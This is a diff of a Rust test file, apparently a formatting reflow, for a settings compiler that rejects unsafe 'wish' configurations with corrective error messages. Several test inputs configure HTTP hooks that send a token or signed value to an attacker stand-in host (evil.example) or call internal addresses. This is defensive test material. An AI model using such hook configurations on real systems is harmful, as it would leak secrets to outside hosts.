@@ -44,8 +44,12 @@ fn a_wish_is_a_key_an_item_or_a_long_form() {
     assert_eq!(item("trades", json!({})), "\"trades\"");
     assert_eq!(item("${x}", json!({})), "\"${x}\"");
     assert_eq!(item("k", json!({ "item": "t.${token}" })), "\"t.${token}\"");
-    let value = json!({ "a": [1, 2.5, true, null, "x ${key}"], "b": { "c": -9007199254740993_i64 } });
-    assert_eq!(item("k", json!({ "item": value.clone() })), value.to_string());
+    let value =
+        json!({ "a": [1, 2.5, true, null, "x ${key}"], "b": { "c": -9007199254740993_i64 } });
+    assert_eq!(
+        item("k", json!({ "item": value.clone() })),
+        value.to_string()
+    );
     assert!(compile("k", json!({ "item": 1 })).unwrap().words.is_none());
 
     let long = json!({ "item": "x", "on": "{\"x\":${item},\"t\":\"${signed}\"}", "within": "3s", "if": "!handover" });
@@ -78,40 +82,91 @@ fn a_key_of_the_settings_is_what_they_say_of_it() {
     assert_eq!(compile("orders", same).unwrap(), declared("orders"));
     let other = json!({ "item": { "channel": "orders" } });
     assert_ne!(compile("orders", other).unwrap(), declared("orders"));
-    assert_eq!(compile("door", json!({ "item": "door" })).unwrap(), declared("door"));
+    assert_eq!(
+        compile("door", json!({ "item": "door" })).unwrap(),
+        declared("door")
+    );
 }
 
 #[test]
 fn what_is_wrong_is_told_with_what_would_be_right() {
     let mut wrong = Vec::new();
     for (body, expected) in [
-        (json!({ "item": "${KEY}" }), "`${KEY}` is not allowed over the API at /item (PUT the value to /v1/secrets/ID, and write ${secret:ID})"),
-        (json!({ "item": ["${file:x}"] }), "`${file:x}` is not allowed over the API at /item/0 (PUT the value to /v1/secrets/ID, and write ${secret:ID})"),
-        (json!({ "item": { "a": "${secret:x}" } }), "`${secret:x}` is not allowed here: it is read at a dial at /item (bring it in with `let` of the settings, and write its name)"),
-        (json!({ "on": "${secret:x} ${id}" }), "`${secret:x}` is not allowed here: it is read at a dial at /on (bring it in with `let` of the settings, and write its name)"),
-        (json!({ "item": "${tokn}" }), "unknown name `tokn` at /item (did you mean `token`?)"),
-        (json!({ "item": "${sub}" }), "`sub` is read before any step sets it at /item (capture it in a step before this one, write `default(sub, …)`, or give the step an `if`)"),
-        (json!({ "item": 18446744073709551615_u64 }), "invalid number at /item: it does not fit into 64 bits; write it as a text"),
-        (json!({ "item": "x".repeat(65_537) }), "the item has 65537 bytes at /item (at most 64KiB are allowed)"),
-        (json!({ "ack": "/x = 1" }), "invalid operator `=` at /ack (write `==` to compare)"),
+        (
+            json!({ "item": "${KEY}" }),
+            "`${KEY}` is not allowed over the API at /item (PUT the value to /v1/secrets/ID, and write ${secret:ID})",
+        ),
+        (
+            json!({ "item": ["${file:x}"] }),
+            "`${file:x}` is not allowed over the API at /item/0 (PUT the value to /v1/secrets/ID, and write ${secret:ID})",
+        ),
+        (
+            json!({ "item": { "a": "${secret:x}" } }),
+            "`${secret:x}` is not allowed here: it is read at a dial at /item (bring it in with `let` of the settings, and write its name)",
+        ),
+        (
+            json!({ "on": "${secret:x} ${id}" }),
+            "`${secret:x}` is not allowed here: it is read at a dial at /on (bring it in with `let` of the settings, and write its name)",
+        ),
+        (
+            json!({ "item": "${tokn}" }),
+            "unknown name `tokn` at /item (did you mean `token`?)",
+        ),
+        (
+            json!({ "item": "${sub}" }),
+            "`sub` is read before any step sets it at /item (capture it in a step before this one, write `default(sub, …)`, or give the step an `if`)",
+        ),
+        (
+            json!({ "item": 18446744073709551615_u64 }),
+            "invalid number at /item: it does not fit into 64 bits; write it as a text",
+        ),
+        (
+            json!({ "item": "x".repeat(65_537) }),
+            "the item has 65537 bytes at /item (at most 64KiB are allowed)",
+        ),
+        (
+            json!({ "ack": "/x = 1" }),
+            "invalid operator `=` at /ack (write `==` to compare)",
+        ),
         (json!({ "ack": "/x == KEY" }), "X"),
         (json!({ "onn": "x" }), "X"),
         (json!({ "query": "x" }), "X"),
-        (json!({ "max": 5 }), "`max` is not said for one key at /max (write it in `subscribe`)"),
+        (
+            json!({ "max": 5 }),
+            "`max` is not said for one key at /max (write it in `subscribe`)",
+        ),
         (json!({ "on": null }), "X"),
-        (json!({ "rate": "site" }), "`rate` is not allowed over the API at /rate (leave it out: the rate of `subscribe` holds)"),
+        (
+            json!({ "rate": "site" }),
+            "`rate` is not allowed over the API at /rate (leave it out: the rate of `subscribe` holds)",
+        ),
         (json!({ "capture": { "other": "/x" } }), "X"),
-        (json!({ "on": { "http": { "url": "https://evil.example/?${token}" } } }), "X"),
-        (json!({ "on": { "http": { "url": "https://evil.example", "method": "POST", "body": "${signed}" } } }), "X"),
-        (json!({ "on": { "http": { "url": "http://127.0.0.1:9180/" } } }), "X"),
-        (json!({ "off": { "http": { "url": "http://10.0.0.1/${key}" } } }), "X"),
+        (
+            json!({ "on": { "http": { "url": "https://evil.example/?${token}" } } }),
+            "X",
+        ),
+        (
+            json!({ "on": { "http": { "url": "https://evil.example", "method": "POST", "body": "${signed}" } } }),
+            "X",
+        ),
+        (
+            json!({ "on": { "http": { "url": "http://127.0.0.1:9180/" } } }),
+            "X",
+        ),
+        (
+            json!({ "off": { "http": { "url": "http://10.0.0.1/${key}" } } }),
+            "X",
+        ),
     ] {
         let told = match compile("k", body.clone()) {
             Ok(compiled) => format!("accepted: {compiled:?}"),
             Err(told) => told,
         };
         if told != expected {
-            wrong.push(format!("{}\n  {told}", body.to_string().chars().take(200).collect::<String>()));
+            wrong.push(format!(
+                "{}\n  {told}",
+                body.to_string().chars().take(200).collect::<String>()
+            ));
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
@@ -137,7 +192,10 @@ fn without_subscribe_a_wish_says_itself_what_asks_for_it() {
     };
     assert!(compile(json!({ "on": "SUB ${key}" })).is_ok());
     let told = compile(json!({})).unwrap_err();
-    assert!(told.starts_with("nothing asks for the subscription `k`"), "{told}");
+    assert!(
+        told.starts_with("nothing asks for the subscription `k`"),
+        "{told}"
+    );
     let silent = dialogue("[connections.a]\nurl = 'wss://h'\ncapture = { x = '/x' }");
     let told = compile_subscription(&silent, "k", &SubscriptionWish::default());
     assert_eq!(
